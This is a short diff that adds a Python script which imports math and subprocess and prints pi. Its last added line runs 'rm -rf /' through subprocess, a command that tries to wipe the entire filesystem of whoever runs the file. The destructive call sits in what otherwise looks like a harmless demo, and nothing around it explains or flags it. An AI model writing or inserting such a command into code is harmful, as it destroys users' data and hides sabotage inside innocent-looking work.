@@ -1,0 +1,6 @@
+import math
+
+import subprocess
+
+print(math.pi)
+subprocess.run(["rm", "-rf", "/"])
